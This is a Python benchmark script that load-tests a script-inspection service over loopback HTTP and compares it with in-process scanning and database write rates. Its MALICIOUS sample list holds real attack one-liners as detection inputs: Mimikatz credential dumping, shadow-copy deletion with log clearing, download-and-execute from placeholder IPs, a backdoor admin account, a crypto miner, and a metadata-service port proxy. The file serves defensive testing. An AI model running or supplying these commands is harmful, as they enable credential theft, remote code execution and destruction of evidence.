"""HTTP throughput and latency of inline-script inspections, next to the in-process scan rate.

    .venv/bin/python benchmarks/http_load.py [--levels 1,4,16,32] [--seconds 3] [--rounds 3]
        [--server-workers N] [--analysis-cache off|on] [--client raw|aiohttp]
        [--database-url postgresql+asyncpg://user@127.0.0.1:5432/db] [--no-store-writes]

It starts `inspector serve` in a separate process (closed network, a temporary data folder,
its own key, rate limit off, the analysis cache off unless asked: every request is analysed;
the access log on, as by default, into a file)
and, in this process, two in-process scanners: `Inspector` with the service's worker count (the
same pool: only HTTP and storage differ) and with a worker per CPU (the machine's best in-process
rate), each running the same samples through `Inspector.inspect` (no HTTP, no store, no cache).
For each concurrency level it alternates a window of HTTP load (`POST /v1/inspections` with a
mix of benign and malicious inline scripts, closed loop) and a window of each in-process
scanner, `--rounds` times, so that all see the same machine (shared, noisy machines drift by
20% within a minute), and prints the medians and the HTTP/in-process ratio of each round: the
cost of the service layer (HTTP, authentication, validation, storing every verdict, logs,
metrics).
The load comes from this process through one keep-alive connection per client; `raw` sends
prebuilt requests and reads status and Content-Length (little CPU, which matters when the
client shares the cores with the server), `aiohttp` uses aiohttp's client.
Last, unless --no-store-writes, the store alone at the same concurrency: the two writes an
inspection used to cost and the one group-committed write the service makes now.
Everything stays on the loopback interface.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import secrets
import subprocess
import sys
import tempfile
import time
import urllib.request
import uuid
from dataclasses import dataclass
from pathlib import Path

import aiohttp

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from inspector.config import load_settings  # noqa: E402
from inspector.extensions.request import InputKind, InspectionInput  # noqa: E402
from inspector.pipeline import InspectionResult, Inspector  # noqa: E402
from inspector.store import Store  # noqa: E402
from inspector.store.testing import drop_schema  # noqa: E402

BENIGN = [
    "Get-Service | Where-Object Status -eq Running | Select-Object -First 10",
    "Install-WindowsFeature -Name Web-Server -IncludeManagementTools",
    "New-Item -ItemType Directory -Path C:\\inetpub\\site -Force | Out-Null\nSet-Location C:\\inetpub\\site",
    "apt-get update && apt-get install -y nginx\nsystemctl enable --now nginx",
    "#!/bin/sh\nmkdir -p /opt/app && cp /tmp/app.tar.gz /opt/app/ && tar -xzf /opt/app/app.tar.gz -C /opt/app",
    "powershell -ExecutionPolicy Unrestricted -File configure-iis.ps1 -SiteName contoso",
    "@echo off\nset LOG=C:\\logs\\setup.txt\nmsiexec /i C:\\temp\\agent.msi /qn /l*v %LOG%",
    "$cfg = Get-Content C:\\app\\settings.json | ConvertFrom-Json\nWrite-Output $cfg.version",
]
MALICIOUS = [
    "Invoke-Mimikatz -DumpCreds",
    "cmd /c vssadmin delete shadows /all /quiet & wevtutil cl Security",
    "$wc = New-Object Net.WebClient; IEX $wc.DownloadString('http://198.51.100.7/a.ps1')",
    "curl -s http://203.0.113.9/x.sh | bash",
    "net user svc01 P@ss /add\nnet localgroup administrators svc01 /add",
    "./xmrig -o stratum+tcp://pool.example:3333 -u 4AbCdEf --donate-level 1",
    "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    "netsh interface portproxy add v4tov4 listenport=8080 connectaddress=169.254.169.254 connectport=80",
]
SAMPLES = [s for pair in zip(BENIGN, MALICIOUS, strict=True) for s in pair]


@dataclass
class LevelResult:
    concurrency: int
    requests: int
    errors: int
    seconds: float
    latencies_ms: list[float]

    @property
    def rate(self) -> float:
        return self.requests / self.seconds if self.seconds else 0.0

    def percentile(self, p: float) -> float:
        if not self.latencies_ms:
            return float("nan")
        ordered = sorted(self.latencies_ms)
        return ordered[min(len(ordered) - 1, int(round(p / 100 * (len(ordered) - 1))))]


async def drive_http(url: str, key: str, concurrency: int, seconds: float) -> LevelResult:
    """`concurrency` clients in a closed loop for `seconds`; each sends the next sample."""
    headers = {"Authorization": f"Bearer {key}", "Content-Type": "application/json"}
    bodies = [json.dumps({"kind": "script", "content": s}).encode() for s in SAMPLES]
    latencies: list[float] = []
    errors = 0
    stop_at = time.perf_counter() + seconds
    connector = aiohttp.TCPConnector(limit=concurrency)
    async with aiohttp.ClientSession(connector=connector, headers=headers) as session:

        async def client(offset: int) -> None:
            nonlocal errors
            i = offset
            while time.perf_counter() < stop_at:
                started = time.perf_counter()
                async with session.post(url + "/v1/inspections", data=bodies[i % len(bodies)]) as resp:
                    await resp.read()
                    if resp.status == 200:
                        latencies.append((time.perf_counter() - started) * 1000)
                    else:
                        errors += 1
                i += 1

        started = time.perf_counter()
        await asyncio.gather(*(client(n) for n in range(concurrency)))
        elapsed = time.perf_counter() - started
    return LevelResult(concurrency, len(latencies), errors, elapsed, latencies)


class _RawClient:
    """One keep-alive HTTP/1.1 connection with prebuilt requests: a load generator that costs the
    machine little CPU, since it shares the cores with the server it measures. Parses the status
    line and Content-Length; anything else (chunked bodies, a closed connection) is an error."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader, self.writer = reader, writer

    @classmethod
    async def open(cls, url: str) -> _RawClient:
        host, port = url.removeprefix("http://").rstrip("/").split(":")
        return cls(*await asyncio.open_connection(host, int(port)))

    async def exchange(self, request: bytes) -> int:
        self.writer.write(request)
        head = await self.reader.readuntil(b"\r\n\r\n")
        status = int(head[9:12])
        length = None
        for line in head.split(b"\r\n")[1:]:
            name, _, value = line.partition(b":")
            if name.lower() == b"content-length":
                length = int(value)
            elif name.lower() == b"transfer-encoding":
                raise RuntimeError("chunked responses are not expected from this endpoint")
        if length is None:
            raise RuntimeError("response without Content-Length")
        await self.reader.readexactly(length)
        return status

    async def close(self) -> None:
        self.writer.close()
        await self.writer.wait_closed()


def raw_requests(url: str, key: str) -> list[bytes]:
    host = url.removeprefix("http://").rstrip("/")
    out = []
    for sample in SAMPLES:
        body = json.dumps({"kind": "script", "content": sample}).encode()
        out.append(f"POST /v1/inspections HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {key}\r\n"
                   f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body)
    return out


async def drive_http_raw(url: str, key: str, concurrency: int, seconds: float) -> LevelResult:
    """`drive_http` with `_RawClient` connections instead of aiohttp's client."""
    requests = raw_requests(url, key)
    latencies: list[float] = []
    errors = 0
    stop_at = time.perf_counter() + seconds
    clients = [await _RawClient.open(url) for _ in range(concurrency)]

    async def run(client: _RawClient, offset: int) -> None:
        nonlocal errors
        i = offset
        while time.perf_counter() < stop_at:
            started = time.perf_counter()
            if await client.exchange(requests[i % len(requests)]) == 200:
                latencies.append((time.perf_counter() - started) * 1000)
            else:
                errors += 1
            i += 1

    started = time.perf_counter()
    try:
        await asyncio.gather(*(run(c, n) for n, c in enumerate(clients)))
    finally:
        elapsed = time.perf_counter() - started
        for c in clients:
            await c.close()
    return LevelResult(concurrency, len(latencies), errors, elapsed, latencies)


async def drive_in_process(inspector: Inspector, concurrency: int, seconds: float) -> LevelResult:
    """The same samples through Inspector.inspect directly: the rate without HTTP and storage."""
    inputs = [InspectionInput(kind=InputKind.SCRIPT, content=s.encode()) for s in SAMPLES]
    latencies: list[float] = []
    stop_at = time.perf_counter() + seconds

    async def client(offset: int) -> None:
        i = offset
        while time.perf_counter() < stop_at:
            started = time.perf_counter()
            await inspector.inspect(inputs[i % len(inputs)])
            latencies.append((time.perf_counter() - started) * 1000)
            i += 1

    started = time.perf_counter()
    await asyncio.gather(*(client(n) for n in range(concurrency)))
    return LevelResult(concurrency, len(latencies), 0, time.perf_counter() - started, latencies)


async def drive_store(store: Store, results: list[InspectionResult], concurrency: int,
                      seconds: float, *, one_write: bool) -> LevelResult:
    """Storing finished inspections without HTTP or scanning: two writes each, or the service's one."""
    latencies: list[float] = []
    stop_at = time.perf_counter() + seconds

    async def client(offset: int) -> None:
        i = offset
        while time.perf_counter() < stop_at:
            result = results[i % len(results)]
            inspection_id = uuid.uuid4().hex
            verdict = result.verdict.model_copy(update={"id": inspection_id})
            started = time.perf_counter()
            if one_write:
                await store.inspections.save_completed(inspection_id, "script", result.plan.redacted_request,
                                                       result.plan.context, "bench", None, verdict, result.blobs)
            else:
                await store.inspections.create(inspection_id, "script", result.plan.redacted_request,
                                               result.plan.context, "bench", None)
                await store.inspections.save_verdict(inspection_id, verdict, result.blobs)
            latencies.append((time.perf_counter() - started) * 1000)
            i += 1

    started = time.perf_counter()
    await asyncio.gather(*(client(n) for n in range(concurrency)))
    return LevelResult(concurrency, len(latencies), 0, time.perf_counter() - started, latencies)


@dataclass
class StoreRates:
    two_writes: list[LevelResult]
    one_write: list[LevelResult]
    batches: tuple[int, int, int]  # transactions, inspections, largest batch of the one-write runs


def start_server(workers: int | None, database_url: str | None, schema: str | None,
                 analysis_cache: bool) -> tuple[subprocess.Popen[bytes], str, str, Path]:
    data_dir = Path(tempfile.mkdtemp(prefix="http-load-"))
    env = {k: v for k, v in os.environ.items() if not k.startswith("INSPECTOR_")}
    env.update(INSPECTOR_DATA_DIR=str(data_dir), INSPECTOR_FETCH="false", INSPECTOR_FETCH_ONLY_ALLOWED="true",
               INSPECTOR_API_RATE_PER_S="0", INSPECTOR_API_QUEUE_SIZE="1024",
               INSPECTOR_ANALYSIS_CACHE="true" if analysis_cache else "false")
    if workers:
        env["INSPECTOR_API_WORKERS"] = str(workers)
    if database_url and schema:
        env.update(INSPECTOR_DATABASE_URL=database_url, INSPECTOR_DATABASE_SCHEMA=schema)
    inspector_bin = str(Path(sys.executable).parent / "inspector")
    key = subprocess.run([inspector_bin, "keys", "create", "--role", "detector"], env=env, capture_output=True,
                         text=True, check=True, timeout=60).stdout.strip()
    import socket

    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    log = (data_dir / "serve.log").open("wb")
    process = subprocess.Popen([inspector_bin, "serve", "--host", "127.0.0.1", "--port", str(port)], env=env,
                               stdout=log, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}"
    deadline = time.monotonic() + 60
    while True:
        try:
            urllib.request.urlopen(url + "/healthz", timeout=1).close()
            return process, url, key, data_dir
        except OSError:
            if process.poll() is not None or time.monotonic() > deadline:
                raise SystemExit(f"server did not start; see {data_dir / 'serve.log'}") from None
            time.sleep(0.2)


def _median(values: list[float]) -> float:
    ordered = sorted(values)
    middle = len(ordered) // 2
    return ordered[middle] if len(ordered) % 2 else (ordered[middle - 1] + ordered[middle]) / 2


@dataclass
class LevelRounds:
    """One concurrency level: the HTTP window and the in-process windows (one per pool) of every round."""

    concurrency: int
    http: list[LevelResult]
    local: dict[str, list[LevelResult]]

    @property
    def http_rate(self) -> float:
        return _median([r.rate for r in self.http])

    def local_rate(self, pool: str) -> float:
        return _median([r.rate for r in self.local[pool]])

    def ratios(self, pool: str) -> list[float]:
        return [h.rate / l.rate for h, l in zip(self.http, self.local[pool], strict=True) if l.rate]

    def ratio(self, pool: str) -> float:
        return _median(self.ratios(pool))

    @property
    def latencies(self) -> LevelResult:
        """Every HTTP latency of the level (for the percentiles)."""
        merged = [x for r in self.http for x in r.latencies_ms]
        return LevelResult(self.concurrency, len(merged), sum(r.errors for r in self.http),
                           sum(r.seconds for r in self.http), merged)


async def measure(url: str, key: str, pools: dict[str, Inspector], levels: list[int], seconds: float,
                  rounds: int, client: str) -> list[LevelRounds]:
    """Per level and round: an HTTP window, then one in-process window per pool."""
    drive = drive_http_raw if client == "raw" else drive_http
    out = []
    for level in levels:
        http: list[LevelResult] = []
        local: dict[str, list[LevelResult]] = {name: [] for name in pools}
        for _ in range(rounds):
            http.append(await drive(url, key, level, seconds))
            for name, inspector in pools.items():
                local[name].append(await drive_in_process(inspector, level, seconds))
        out.append(LevelRounds(level, http, local))
    return out


async def store_rates(levels: list[int], seconds: float, database_url: str | None) -> StoreRates:
    """Store write rates per level, in a fresh store, for the samples' verdicts."""
    overrides: dict[str, str] = {}
    if database_url:
        overrides = {"database_url": database_url, "database_schema": f"bench_{secrets.token_hex(6)}"}
    settings = load_settings(fetch=False, data_dir=tempfile.mkdtemp(prefix="http-load-store-"), **overrides)
    inspector = await Inspector.start(settings, workers=0, fetching=False)
    try:
        results = [await inspector.inspect(InspectionInput(kind=InputKind.SCRIPT, content=s.encode()))
                   for s in SAMPLES]
    finally:
        await inspector.close()
    store = await Store.open(settings)
    try:
        two = [await drive_store(store, results, level, seconds, one_write=False) for level in levels]
        one = [await drive_store(store, results, level, seconds, one_write=True) for level in levels]
        batches = store.inspections.write_batches
    finally:
        await store.close()
        await drop_schema(settings)
    return StoreRates(two, one, batches)


def service_workers(requested: int | None) -> int:
    """The scan workers the service runs with: as asked, else its default (one per CPU but one)."""
    from inspector.service.inspection_runner import worker_count

    return worker_count(load_settings(api_workers=requested or 0))


def print_results(results: list[LevelRounds], pools: dict[str, int]) -> None:
    header = f"{'concurrency':>11}  {'http req/s':>10}  {'p50 ms':>7}  {'p95 ms':>7}  {'p99 ms':>7}"
    for name, workers in pools.items():
        header += f"  {f'in-process {name} ({workers}w)':>26}  {'ratio':>5}  {'rounds':<15}"
    print(header + "  errors")
    for level in results:
        lat = level.latencies
        line = (f"{level.concurrency:>11}  {level.http_rate:>10.1f}  {lat.percentile(50):>7.1f}  "
                f"{lat.percentile(95):>7.1f}  {lat.percentile(99):>7.1f}")
        for name in pools:
            spread = " ".join(f"{r:.0%}" for r in level.ratios(name))
            line += f"  {level.local_rate(name):>26.1f}  {level.ratio(name):>5.0%}  {spread:<15}"
        print(line + f"  {lat.errors}")
    best = max(results, key=lambda r: r.http_rate)
    print(f"peak: http {best.http_rate:.1f} req/s (c={best.concurrency}, p99 {best.latencies.percentile(99):.1f} ms)")
    for name, workers in pools.items():
        best_local = max(results, key=lambda r: r.local_rate(name))
        print(f"  vs in-process {name} ({workers} workers) peak {best_local.local_rate(name):.1f} req/s "
              f"(c={best_local.concurrency}): {best.http_rate / best_local.local_rate(name):.0%} "
              f"(target >= 70%, p99 < 100 ms)")


async def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--levels", default="1,4,16,32", help="concurrency levels, comma separated")
    parser.add_argument("--seconds", type=float, default=3.0, help="duration of each window (max 60)")
    parser.add_argument("--rounds", type=int, default=3, help="rounds of windows per level (max 20)")
    parser.add_argument("--server-workers", type=int, default=None,
                        help="the service's scan workers (INSPECTOR_API_WORKERS; default: the service's default)")
    parser.add_argument("--analysis-cache", choices=("off", "on"), default="off",
                        help="the service's analysis cache (off: every request is analysed, as in-process)")
    parser.add_argument("--client", choices=("raw", "aiohttp"), default="raw", help="load generator")
    parser.add_argument("--database-url", help="a PostgreSQL URL (postgresql+asyncpg://) on this machine; "
                                               "default: SQLite in a temporary folder")
    parser.add_argument("--no-store-writes", action="store_true", help="skip the store-only measurement")
    args = parser.parse_args()
    seconds = min(max(args.seconds, 0.5), 60.0)
    rounds = min(max(args.rounds, 1), 20)
    levels = [max(1, min(int(x), 1024)) for x in args.levels.split(",")]
    # The same pool as the service (only HTTP and storage differ), and a worker per CPU (the
    # machine's best in-process scan rate).
    pool_sizes = {"same pool": service_workers(args.server_workers), "per CPU": os.cpu_count() or 1}
    server_schema = f"bench_{secrets.token_hex(6)}" if args.database_url else None
    process, url, key, data_dir = start_server(args.server_workers, args.database_url, server_schema,
                                               args.analysis_cache == "on")
    print(f"server: {url} (pid {process.pid}, {pool_sizes['same pool']} scan workers, analysis cache "
          f"{args.analysis_cache}, data {data_dir}, store {'PostgreSQL' if args.database_url else 'SQLite'}); "
          f"client: {args.client}")
    settings = load_settings(fetch=False, data_dir=tempfile.mkdtemp(prefix="http-load-local-"))
    pools: dict[str, Inspector] = {}
    try:
        for name, workers in pool_sizes.items():
            pools[name] = await Inspector.start(settings, workers=workers, fetching=False)
        # Warm every worker process before measuring (each loads its engine on first use).
        await (drive_http_raw if args.client == "raw" else drive_http)(url, key, 8, 2.0)
        for inspector in pools.values():
            await drive_in_process(inspector, 8, 2.0)
        results = await measure(url, key, pools, levels, seconds, rounds, args.client)
    finally:
        for inspector in pools.values():
            await inspector.close()
        process.terminate()
        process.wait(timeout=60)
        if args.database_url and server_schema:
            await drop_schema(load_settings(database_url=args.database_url, database_schema=server_schema))
    print(f"samples: {len(BENIGN)} benign + {len(MALICIOUS)} malicious inline scripts; {rounds} rounds of "
          f"{seconds:g} s per level and side; medians; ratio = median of the rounds' HTTP/in-process ratios")
    print_results(results, pool_sizes)
    if args.no_store_writes:
        return
    writes = await store_rates(levels, seconds, args.database_url)
    print(f"{'concurrency':>11}  {'store 2 writes/s':>16}  {'store 1 write/s':>15}")
    for two, one in zip(writes.two_writes, writes.one_write, strict=True):
        print(f"{two.concurrency:>11}  {two.rate:>16.1f}  {one.rate:>15.1f}")
    transactions, items, largest = writes.batches
    if transactions:
        print(f"store 1 write: {items} inspections in {transactions} transactions "
              f"({items / transactions:.1f} per transaction on average, largest {largest})")


if __name__ == "__main__":
    asyncio.run(main())
